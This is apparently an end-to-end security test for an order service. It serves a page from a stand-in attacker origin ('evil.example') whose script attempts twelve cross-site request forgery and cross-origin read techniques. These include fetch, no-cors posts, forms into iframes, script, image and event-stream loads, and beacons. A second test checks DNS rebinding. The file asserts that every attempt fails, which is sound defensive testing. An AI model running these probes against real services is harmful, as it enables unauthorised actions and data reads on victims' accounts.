"""A page of another site, in a real browser on this machine, gets nothing done here and reads nothing."""

import json
import os
import shutil
import subprocess
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import Http, Sandbox, execute
from tests.e2e.conftest import Service, listening, start_service, stop, usual

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
NAMES = "MAP evil.example 127.0.0.1, MAP rebound.example 127.0.0.1"
"""Names that lead to this machine, as an attacker's DNS would say."""
SECRET = "Whispers of the Night"
CUSTOMER = 52_000_001

PAGE = """<!doctype html><title>A page that tries</title><body><script>
const service = "SERVICE", customer = CUSTOMER;
const tried = {};
const address = path => service + path;
function once(name, begin) {  // each is over when it has succeeded or failed
  return new Promise(resolve => {
    const over = how => { tried[name] = String(how); resolve(); };
    try { begin(over); } catch (error) { over(error); }
  });
}
async function asked(over, path, options) {
  try { const answer = await fetch(address(path), options); over(answer.type + " " + (await answer.text())); }
  catch (error) { over(error); }
}
const json = JSON.stringify({items: [{product_id: PRODUCT, quantity: 1}]});
function shown(frame) {
  try { return frame.contentDocument.body.innerText; } catch (error) { return error; }
}
function form(over, target) {
  const frame = document.createElement("iframe");
  frame.name = target;
  document.body.append(frame);
  const sent = document.createElement("form");
  Object.assign(sent, {method: "post", action: address("/orders/" + customer), target});
  document.body.append(sent);
  frame.onload = () => over(shown(frame));
  sent.submit();
}
function frame(over, path) {
  const frame = document.createElement("iframe");
  frame.onload = () => over(shown(frame));
  frame.src = address(path);
  document.body.append(frame);
}
function element(over, kind, path) {
  const made = document.createElement(kind);
  made.onload = () => over("loaded");
  made.onerror = () => over("error");
  made.src = address(path);
  document.body.append(made);
}
function stream(over, path) {
  const source = new EventSource(address(path));
  source.onmessage = message => { source.close(); over(message.data); };
  source.onerror = () => { source.close(); over("error"); };
}
Promise.all([
  once("fetch", over => asked(over, "/orders")),
  once("fetch, no-cors", over => asked(over, "/orders", {mode: "no-cors"})),
  once("post, no-cors", over => asked(over, "/orders/" + customer, {method: "post", mode: "no-cors"})),
  once("post, JSON", over => asked(over, "/orders/" + customer,
    {method: "post", headers: {"Content-Type": "application/json"}, body: json})),
  once("post, JSON as text", over => asked(over, "/orders/" + customer, {method: "post", mode: "no-cors", body: json})),
  once("put", over => asked(over, "/orders/" + customer, {method: "put", body: json})),
  once("form", over => form(over, "first")),
  once("image", over => element(over, "img", "/orders")),
  once("script", over => element(over, "script", "/orders")),
  once("frame", over => frame(over, "/orders")),
  once("events", over => stream(over, "/orders")),
  once("beacon", over => over(navigator.sendBeacon(address("/orders/" + customer)))),
]).then(() => fetch("/done", {method: "post", body: JSON.stringify(tried)}));
</script>"""


@dataclass
class Site:
    """Another site: a page, and what the page says that it has tried."""

    port: int
    pages: dict[str, str] = field(default_factory=dict)
    said: dict[str, Any] = field(default_factory=dict)
    is_over: threading.Event = field(default_factory=threading.Event)


@pytest.fixture
def site() -> Iterator[Site]:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            page = site.pages.get(self.path, "").encode()
            self.send_response(200 if page else 404)
            self.send_header("content-type", "text/html")
            self.send_header("content-length", str(len(page)))
            self.end_headers()
            self.wfile.write(page)

        def do_POST(self) -> None:
            site.said.update(json.loads(self.rfile.read(int(self.headers["content-length"]))))
            self.send_response(204)
            self.end_headers()
            site.is_over.set()

        def log_message(self, *_: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    site = Site(server.server_port)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield site
    server.shutdown()
    server.server_close()


@pytest.fixture
def victim(http: Http, sandbox: Sandbox, dsn: str) -> Iterator[Service]:
    """The service as somebody runs it on a laptop, with one order."""
    service = listening(start_service(http, **usual(dsn, sandbox)))
    assert service.place(CUSTOMER, (sandbox.product(5), 1)).status == 201
    yield service
    stop([service])


def chromium(profile: Path, *arguments: str) -> list[str]:
    """The command line of a browser without a window. The test is skipped without Chromium or, under CI, fails."""
    if CHROMIUM is None:
        (pytest.fail if os.environ.get("CI") else pytest.skip)("Chromium is missing: apt-get install chromium")
    options = [
        "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run", "--no-proxy-server",
        "--disable-background-networking", f"--user-data-dir={profile}", f"--host-resolver-rules={NAMES}",
    ]  # fmt: skip
    return [str(CHROMIUM), *options, *arguments]


def visit(address: str, profile: Path, site: Site) -> dict[str, Any]:
    """Open the page. Returns what it has tried, and what became of it."""
    # With a port for debugging the browser does not end by itself once the page is loaded.
    command = chromium(profile, "--remote-debugging-port=0", address)
    browser = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        assert site.is_over.wait(120), f"{address} has not tried everything"
    finally:
        browser.terminate()
        browser.wait(timeout=60)
    return site.said


def count(dsn: str) -> int:
    return int(execute(dsn, "SELECT count(*) FROM orders")[0][0])


def test_a_page_of_another_site_gets_nothing_done_and_reads_nothing(
    victim: Service, site: Site, sandbox: Sandbox, dsn: str, tmp_path: Path
) -> None:
    product = sandbox.product(5)
    cart = sandbox.fill_cart(CUSTOMER, (product, 1))
    # a page of another site, and one of another port of this machine
    for origin, name in (("evil.example", "localhost"), ("127.0.0.1", "127.0.0.1")):
        address = victim.url.replace("127.0.0.1", name)
        page = PAGE.replace("SERVICE", address).replace("CUSTOMER", str(CUSTOMER)).replace("PRODUCT", str(product))
        site.pages["/"] = page
        site.is_over.clear()
        site.said.clear()
        tried = visit(f"http://{origin}:{site.port}/", tmp_path / origin, site)
        assert len(tried) == 12, tried
        assert SECRET not in json.dumps(tried), tried
        for way in ("fetch", "post, JSON", "put", "image", "script", "events"):
            assert "rror" in tried[way], (way, tried[way])  # TypeError: Failed to fetch
        assert count(dsn) == 1
        assert sandbox.stock(product) == 5
    assert sandbox.cart_status(cart) == "Active"


def test_a_page_whose_own_name_leads_here_reads_nothing(victim: Service, site: Site, dsn: str, tmp_path: Path) -> None:
    """DNS rebinding: to the browser the page's name and the service's are one origin, so it would show the answers."""
    port = victim.url.rpartition(":")[2]
    command = chromium(tmp_path, "--dump-dom", f"http://rebound.example:{port}/orders")
    shown = subprocess.run(command, capture_output=True, text=True, timeout=120, check=True)
    assert "credential_required" in shown.stdout
    assert SECRET not in shown.stdout
